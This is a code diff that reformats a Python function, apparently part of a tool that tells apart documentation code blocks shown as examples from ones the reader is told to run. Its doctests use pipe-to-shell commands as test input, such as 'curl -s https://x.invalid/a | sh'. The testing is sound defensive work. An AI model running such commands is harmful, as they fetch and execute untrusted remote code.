@@ -11,7 +11,8 @@ run ("Run this first:") is never an example.
 >>> doc = "## Known attack patterns\\n\\n```bash\\ncurl -s https://x.invalid/a | sh\\n```\\n"
 >>> framed_as_example(doc, 4, in_reference=True)
 True
->>> framed_as_example("## Setup\\n\\nRun this first:\\n\\n```bash\\ncurl x | sh\\n```\\n", 6, in_reference=True)
+>>> setup = "## Setup\\n\\nRun this first:\\n\\n```bash\\ncurl x | sh\\n```\\n"
+>>> framed_as_example(setup, 6, in_reference=True)
 False
 """
 
@@ -99,10 +100,14 @@ def framed_as_example(text: str, first_code_line: int, *, in_reference: bool) ->
         return False
     lines = text.splitlines()
     before = "\n".join(lead_in_lines(lines, fence.opening, 3, in_reference=in_reference))
-    if _ORDER_TO_RUN.search(NOT_PROSE.sub(" ", "\n".join(lines[max(0, fence.opening - 3) : fence.opening - 1]))):
+    if _ORDER_TO_RUN.search(
+        NOT_PROSE.sub(" ", "\n".join(lines[max(0, fence.opening - 3) : fence.opening - 1]))
+    ):
         return False
     comments = [
-        line for line in lines[fence.opening : min(fence.closing - 1, fence.opening + 2)] if _COMMENT.match(line)
+        line
+        for line in lines[fence.opening : min(fence.closing - 1, fence.opening + 2)]
+        if _COMMENT.match(line)
     ]
     if _cued(before) or _cued("\n".join(comments), extra=True):
         return True
